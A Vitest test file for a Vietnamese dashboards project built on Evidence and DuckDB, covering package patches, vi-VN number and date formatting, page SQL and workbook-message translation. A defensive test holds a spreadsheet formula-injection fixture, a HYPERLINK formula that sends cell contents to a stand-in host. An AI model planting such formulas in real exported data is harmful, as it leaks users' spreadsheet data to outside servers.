/**
 * The dashboards' patches of @evidence-dev/universal-sql (offline) and of Evidence's page layout
 * (DuckDB-WASM started while the tables load), and their vi-VN number text.
 * Needs dashboards/node_modules (`npm ci --prefix dashboards`).
 */
import { execFile } from 'node:child_process';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DASHBOARDS_DIR, neutralisedSelect } from '../../functions/dashboards/build.js';
import { literal, withDuckDb } from '../../functions/core/engine/duckdb.js';
// @ts-expect-error plain JS module of the dashboards project (no types)
import { viDateCode, viNumberText } from '../../dashboards/components/vi-format.js';
import { fmtRate } from '../../functions/core/report/model.js';
import { readBieu06Xlsx } from '../../functions/core/readers/xlsx/bieu06.js';
import { readParXlsx } from '../../functions/core/readers/xlsx/par.js';
import { writeParXlsx, type ParTableRow } from '../../functions/generator/par-xlsx.js';
import { bieu06Counts, bieu06Workbook, type Bieu06Cell } from '../helpers/bieu06-sheet.js';
import { tempDirs } from '../helpers/temp-dirs.js';

const run = promisify(execFile);
const USQL = path.join(DASHBOARDS_DIR, 'node_modules', '@evidence-dev', 'universal-sql');
const PATCHED_FILES = ['src/client-duckdb/node.js', 'src/client-duckdb/browser.js', 'src/build-parquet.js'];

function patchFile(pkg = 'universal-sql'): string {
  const patches = readdirSync(path.join(DASHBOARDS_DIR, 'patches')).filter((f) => f.startsWith(`@evidence-dev+${pkg}+`));
  expect(patches).toHaveLength(1);
  return path.join(DASHBOARDS_DIR, 'patches', patches[0] as string);
}

/** The page layout of Evidence's template: starts DuckDB-WASM while the tables are fetched (docs/evidence-offline-patch.md). */
const LAYOUT = 'template/src/pages/+layout.js';

describe('universal-sql offline patch when dashboards/node_modules is installed', () => {
  beforeAll(() => {
    if (!existsSync(USQL)) throw new Error(`${USQL} is missing: run npm ci --prefix dashboards`);
  });

  test('should target exactly the universal-sql version the lockfile pins and installs', () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile())?.[1];
    const lock = JSON.parse(readFileSync(path.join(DASHBOARDS_DIR, 'package-lock.json'), 'utf8')) as { packages: Record<string, { version?: string }> };
    const installed = JSON.parse(readFileSync(path.join(USQL, 'package.json'), 'utf8')) as { version: string };
    expect(version).toBe(lock.packages['node_modules/@evidence-dev/universal-sql']?.version);
    expect(installed.version).toBe(version);
  });

  test('should leave the installed files exactly in the patched state', async () => {
    // Reverse-applying succeeds only if every hunk is present as patched.
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile()], { cwd: DASHBOARDS_DIR });
    for (const file of PATCHED_FILES) expect(stdout).toContain(`checking file node_modules/@evidence-dev/universal-sql/${file}`);
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
  });

  test('should have the page layout patched too, for the exact Evidence version installed', async () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('evidence'))?.[1];
    const installed = JSON.parse(readFileSync(path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/evidence/package.json'), 'utf8')) as { version: string };
    expect(installed.version).toBe(version);
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('evidence')], { cwd: DASHBOARDS_DIR });
    expect(stdout).toContain(`checking file node_modules/@evidence-dev/evidence/${LAYOUT}`);
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
    // The browser client waits for an instantiation under way without initDB's 5 s timeout.
    expect(readFileSync(path.join(USQL, 'src/client-duckdb/browser.js'), 'utf8')).toContain('await (initializing ? initPromise : initDB())');
  });

  test('should have the components patched to Vietnamese labels, for the exact core-components version installed', async () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('core-components'))?.[1];
    const dir = path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/core-components');
    const installed = JSON.parse(readFileSync(path.join(dir, 'package.json'), 'utf8')) as { version: string };
    expect(installed.version).toBe(version);
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('core-components')], { cwd: DASHBOARDS_DIR });
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
    // What a reader sees around tables and charts, and the page menu.
    const text = (f: string): string => readFileSync(path.join(dir, 'dist', f), 'utf8');
    expect(text('unsorted/viz/table/EnterFullScreen.svelte')).toContain('Toàn màn hình');
    expect(text('unsorted/viz/table/EnterFullScreen.svelte')).not.toMatch(/>\s*Fullscreen\s*</);
    expect(text('unsorted/ui/DownloadData.svelte')).toContain("export let text = 'Tải xuống'");
    expect(text('unsorted/viz/core/ECharts.svelte')).not.toMatch(/Save Image|Download Data/);
    expect(text('organisms/layout/header/KebabMenu.svelte')).not.toMatch(/Print PDF|aria-label="Menu"/);
    expect(text('unsorted/viz/table/_DataTable.svelte')).not.toMatch(/No Results|records<|aria-label="(first|previous|next|last)-page"/);
    // A chart, table or KPI left without rows (emptySet=pass, or an input that empties it) says so in Vietnamese.
    expect(text('unsorted/viz/core/EmptyChart.svelte')).toContain("export let emptyMessage = 'Không có số liệu'");
    expect(text('unsorted/viz/core/EmptyChart.svelte')).not.toMatch(/No Records/);
    expect(text('molecules/dimension-grid/DimensionCut.svelte')).not.toMatch(/No Records/);
  });

  test('should give every chart a text alternative (ECharts aria description, role img), for the exact component-utilities version installed', async () => {
    const version = /\+(\d+\.\d+\.\d+)\.patch$/.exec(patchFile('component-utilities'))?.[1];
    const dir = path.join(DASHBOARDS_DIR, 'node_modules/@evidence-dev/component-utilities');
    expect((JSON.parse(readFileSync(path.join(dir, 'package.json'), 'utf8')) as { version: string }).version).toBe(version);
    const { stdout } = await run('patch', ['--dry-run', '--reverse', '--force', '-p1', '-i', patchFile('component-utilities')], { cwd: DASHBOARDS_DIR });
    expect(stdout).toContain('checking file node_modules/@evidence-dev/component-utilities/src/echarts.js');
    expect(stdout).not.toMatch(/FAILED|Unreversed|ignored/i);
    const action = readFileSync(path.join(dir, 'src/echarts.js'), 'utf8');
    expect(action).toContain("node.setAttribute('role', 'img')");
    expect(action).toContain('aria: CCHC_ARIA');
  });

  test('should keep no read_parquet or Parquet COPY in the patched client and build step', () => {
    for (const file of PATCHED_FILES) {
      const text = readFileSync(path.join(USQL, file), 'utf8');
      const code = text.split('\n').filter((l) => !/^\s*(\/\/|\*|\/\*)/.test(l)).join('\n');
      expect(text, file).toContain('[offline patch]');
      expect(code, file).not.toMatch(/read_parquet\(|FORMAT '?PARQUET/i);
    }
  });

  describe('when the node side writes, merges and reads a table', () => {
    let tmp: string;
    beforeAll(async () => {
      tmp = await mkdtemp(path.join(os.tmpdir(), 'dash-usql-'));
    });
    afterAll(async () => {
      await rm(tmp, { recursive: true, force: true });
    });

    test('should return every row without any extension download', async () => {
      const { stdout } = await run(process.execPath, ['scripts/check-offline-patch.mjs', tmp], { cwd: DASHBOARDS_DIR, timeout: 120_000 });
      const result = JSON.parse(stdout.trim().split('\n').at(-1) ?? '{}') as { written: number; rows: number; total: number; names: string[]; empty: { rows: number; columns: string[] } };
      expect(result.written).toBe(4);
      expect(result.rows).toBe(4);
      expect(result.total).toBeCloseTo(1492 + 83.45 + 0.3333 + 10, 6);
      expect(result.names).toEqual(['<b>Sở Thử</b>', 'Sở Xây dựng', 'Sở Y tế', 'Sở Tư pháp']);
      // An empty mart's placeholder row (functions/dashboards/build.ts) is deleted with its flag on load.
      expect(result.empty).toEqual({ rows: 0, columns: ['name VARCHAR', 'v DOUBLE', 'd TIMESTAMP_MS'] });
    });
  });
});

describe('viNumberText given ssf output', () => {
  test.each([
    ['1,492', '1.492'],
    ['83.45', '83,45'],
    ['33.33%', '33,33%'],
    ['33.33 %', '33,33%'],
    ['2.15 điểm %', '2,15 điểm %'],
    ['-1,234,567.5', '-1.234.567,5'],
    ['1.49k', '1,49k'],
    ['(12.5)', '(12,5)'],
    ['0', '0'],
  ])('should turn %s into %s', (input, expected) => {
    expect(viNumberText(input)).toBe(expected);
  });

  test('should write a rate as vi-VN and the monthly report do ("83,45%", no space before the sign)', () => {
    // The pages' rate (ssf 0.00% through viNumberText), CLDR's vi-VN percent and the report's fmtRate agree.
    const vi = new Intl.NumberFormat('vi-VN', { style: 'percent', minimumFractionDigits: 2 }).format(0.8345);
    expect(viNumberText('83.45%')).toBe(vi);
    expect(fmtRate(0.8345)).toBe(vi);
  });
});

describe('viDateCode given a date format code', () => {
  test('should replace the ISO default with dd/mm/yyyy and keep others', () => {
    expect(viDateCode('YYYY-MM-DD')).toBe('dd/mm/yyyy');
    expect(viDateCode('mm/yyyy')).toBe('mm/yyyy');
  });
});

describe('neutralisedSelect given a table with text that a spreadsheet would run as a formula', () => {
  let tmp: string;
  beforeAll(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), 'dash-formula-'));
  });
  afterAll(async () => {
    await rm(tmp, { recursive: true, force: true });
  });

  test('should prefix a quote to text cells starting with = + - @ tab or CR and leave everything else as it was', async () => {
    const rows = await withDuckDb(async (db) => {
      await db.run(`copy (select * from (values
          (1, '=HYPERLINK("http://x.example/?"&A1,"x")', -2.5::DOUBLE, 'H99.01'),
          (2, '+84 912', 0.0, '-1'),
          (3, '@SUM(A1)', 1.0, NULL),
          (4, 'Sở Tư pháp', 2.0, chr(9) || 'tab'),
          (5, NULL, NULL, 'a=b')
        ) t(id, name, score, code)) to ${literal(path.join(tmp, 't.parquet'))} (format parquet)`);
      // Relative to the directory the generated source query runs in, as Evidence runs it.
      const select = await neutralisedSelect(db, `read_parquet('t.parquet')`, tmp);
      expect(select).not.toContain(tmp);
      return db.all(`${select} order by id`);
    });
    expect(rows.map((r) => Object.keys(r))).toEqual(Array(5).fill(['id', 'name', 'score', 'code']));
    expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"x")`, "'+84 912", "'@SUM(A1)", 'Sở Tư pháp', null]);
    expect(rows.map((r) => r.code)).toEqual(['H99.01', "'-1", null, "'\ttab", 'a=b']);
    expect(rows.map((r) => r.score)).toEqual([-2.5, 0, 1, 2, null]);
  });
});

describe('early-warning horizon in the configuration', () => {
  test('should default to 3 working days, read PIPELINE_WARNING_WORKING_DAYS and refuse more than the mart keeps (10)', async () => {
    const { loadConfig } = await import('../../functions/core/config.js');
    expect(loadConfig(undefined, {}).warningWorkingDays).toBe(3);
    expect(loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: '5' }).warningWorkingDays).toBe(5);
    expect(() => loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: '11' })).toThrow(/warningWorkingDays/);
    expect(() => loadConfig(undefined, { PIPELINE_WARNING_WORKING_DAYS: 'three' })).toThrow(/warningWorkingDays/);
  });
});

/** Every ```sql block of dashboards/pages (and its subfolders), with its page, name and first line. */
function blocks(dir = path.join(DASHBOARDS_DIR, 'pages')): { page: string; name: string; line: number; sql: string }[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const file = path.join(dir, e.name);
    if (e.isDirectory()) return blocks(file);
    if (!e.name.endsWith('.md')) return [];
    const text = readFileSync(file, 'utf8');
    return [...text.matchAll(/^```sql ?([^\n]*)\n([\s\S]*?)^```/gm)].map((m) => ({
      page: path.relative(DASHBOARDS_DIR, file),
      name: m[1]!.trim(),
      line: text.slice(0, m.index).split('\n').length,
      sql: m[2]!,
    }));
  });
}

describe('the SQL of every dashboard page', () => {
  test('should find the pages\' queries (the check below reads them)', () => {
    expect(blocks().length).toBeGreaterThan(50);
  });

  test('should hold no single backslash: Evidence puts a query in a JavaScript template literal, which drops it or refuses it', () => {
    // "\(" reached DuckDB as "(" (the data-quality page's duplicate-id pattern became a group and never matched);
    // "\1" fails the build. A backslash meant for DuckDB is written doubled ("\\1"); a literal "(" as "[(]".
    const single = blocks().filter((b) => b.sql.replaceAll('\\\\', '').includes('\\'));
    expect(single.map((b) => `${b.page}:${b.line}`)).toEqual([]);
  });
});

describe("the data-quality page's Vietnamese for what the workbook readers write (dq_sheet_texts)", () => {
  const newDir = tempDirs('dq-sheet-texts-');
  let dir: string;
  beforeAll(() => {
    dir = newDir();
  });

  /** A Biểu 06 workbook file with `lines` from sheet row 6 (test/helpers/bieu06-sheet.ts). */
  async function bieu06(lines: Bieu06Cell[][]): Promise<string> {
    const file = path.join(dir, 'bieu06.xlsx');
    await writeFile(file, await bieu06Workbook(lines));
    return file;
  }

  /** The page's query, as Evidence runs it: its text through a JavaScript template literal, over `reasons` and `findings`. */
  async function translate(reasons: string[], findings: string[]): Promise<Map<string, string>> {
    const block = blocks().find((b) => b.page === path.join('pages', 'chat-luong-du-lieu.md') && b.name === 'dq_sheet_texts');
    expect(block).toBeDefined();
    const values = (xs: string[], col: string): string =>
      xs.length ? `(select x as ${col} from (values ${xs.map((x) => `(${literal(x)})`).join(', ')}) t(x))` : `(select null::varchar as ${col} where false)`;
    const sql = block!.sql
      .replaceAll('\\\\', '\\')
      .replace('${dq_reason_parts}', values(reasons, 'reason'))
      .replace('${dq}', values(findings, 'check_findings'));
    const rows = await withDuckDb((db) => db.all(sql));
    return new Map(rows.map((r) => [String(r.en), String(r.vi)]));
  }

  test('should leave none of the readers\' English in the rows and totals of faulty Biểu 06 and PAR Index workbooks', async () => {
    const A = bieu06Counts(10, 5, 1, 8, 4, 1, 1);
    const B = bieu06Counts(3, 2, 0, 2, 2, 0, 0);
    const off = [...A];
    off[0] = off[0]! + 1; // c3 ≠ c4 + c5 + c6
    const file = await bieu06([
      ['I', 'Cấp tỉnh'],
      [1, 'Sở Tư pháp', ...off],
      [2, 'Sở Y tế', B[0]!, B[1]!, { formula: 'B7*1' }, ...B.slice(3)],
      [3, 'Sở Nội vụ', B[0]!, 'hai', ...B.slice(2)],
      [4, 'Sở Tài chính', B[0]!, B[1]!, 1.5, ...B.slice(3)],
      [5, 'Sở Xây dựng', B[0]!, { error: '#DIV/0!' }, ...B.slice(2)],
      [6, 'Sở Công Thương', B[0]!, '-2', ...B.slice(2)],
      [7, null, ...B],
      [null, 'Ghi chú', 5],
      [null, 'Cộng', ...B.map((x) => x + 1)],
      ['II', 'Cấp huyện'],
      [8, 'UBND huyện Đông', ...B],
      [null, 'Tổng cộng', ...A.map((x) => x + 2)],
    ]);
    const b06 = await readBieu06Xlsx(file, {});
    const par = path.join(dir, 'par.xlsx');
    const row = (name: string, over: Partial<ParTableRow>): ParTableRow => ({
      agencyName: name, agencyCode: null, fields: [{ self: 9, appraised: 8.5 }, { self: 6, appraised: 5.75 }], survey: 57.7, total: 71.95, rank: 1, band: 'Khá', ...over,
    });
    await writeParXlsx(par, {
      year: 2024, provinceName: 'tỉnh Sông Xanh', decisionNo: '1/QĐ-UBND', surveyMax: 70,
      fields: [{ no: 1, name: 'Công tác chỉ đạo, điều hành cải cách hành chính', max: 10 }, { no: 2, name: 'Cải cách thể chế', max: 6.5 }],
      rows: [
        row('Sở A', { total: 80 }),
        row('Sở B', { fields: [{ self: 11, appraised: 8.5 }, { self: 6, appraised: 5.75 }], total: 71.95 }),
        row('Sở C', { fields: [{ self: 9, appraised: 10.5 }, { self: 6, appraised: 5.75 }], total: 73.95 }),
        row('Sở D', { survey: 71, total: 85.25 }),
        row('Sở E', { rank: 0 }),
        row('Sở F', { rank: 2.5 }),
        row('Sở G', { band: '' }),
        row('', {}),
      ],
    });
    const parRead = await readParXlsx(par, {});
    // What the data-quality mart shows: each quarantined row's reason, and a Biểu 06 file's total checks joined by '; '.
    const reasons = [...b06.quarantine, ...parRead.quarantine].map((q) => q.reason);
    const findings = [b06.checks.map((c) => c.reason).join('; ')];
    expect(reasons.length).toBeGreaterThanOrEqual(14);
    expect(b06.checks.length).toBeGreaterThanOrEqual(2);
    const vi = await translate(reasons, findings);
    expect(vi.size).toBe(new Set([...reasons, ...findings]).size);
    const english = /sheet row|subtotal|sum of|field|survey|total|rank|band|unit|empty|negative|formula|cell|error value|whole|number|workbook|appraised|self|max\b|figures|scores|vi-VN/;
    const left = [...vi].filter(([, v]) => english.test(v)).map(([en, v]) => `${en} → ${v}`);
    expect(left).toEqual([]);
    // Read from a cell, 1.5 is written the vi-VN way.
    expect([...vi.values()].join('\n')).toContain('(1,5)');
  });
});
